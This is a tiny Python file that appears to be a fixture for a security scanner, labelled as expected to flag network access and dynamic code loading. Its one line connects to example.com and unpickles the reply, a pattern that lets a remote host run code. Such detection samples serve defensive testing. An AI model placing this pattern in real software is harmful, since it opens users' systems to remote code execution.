# must-any: NET_ACCESS, DYNAMIC_CODE_LOAD
from multiprocessing.connection import Client

Client(("example.com", 5000)).recv()
